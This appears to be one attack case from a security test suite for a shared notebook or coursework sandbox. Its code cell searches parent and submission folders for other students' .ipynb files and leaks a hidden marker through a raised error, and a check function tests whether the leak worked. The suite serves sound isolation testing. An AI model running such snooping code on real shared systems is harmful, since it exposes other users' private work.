"""Walks the folders around its own until it finds the work of a classmate.

It worked if a line of a classmate's notebook is in what the attacker gets to see.
"""

from room import Seen

CELL = """
import pathlib, re
for start in ("..", "$submitted"):
    for path in sorted(pathlib.Path(start).rglob("*.ipynb")):
        if found := re.search("# ([0-9a-f]{32})", path.read_text()):
            raise RuntimeError(found[1])
"""


def succeeded(seen: Seen) -> bool:
    return seen.leaked("work")
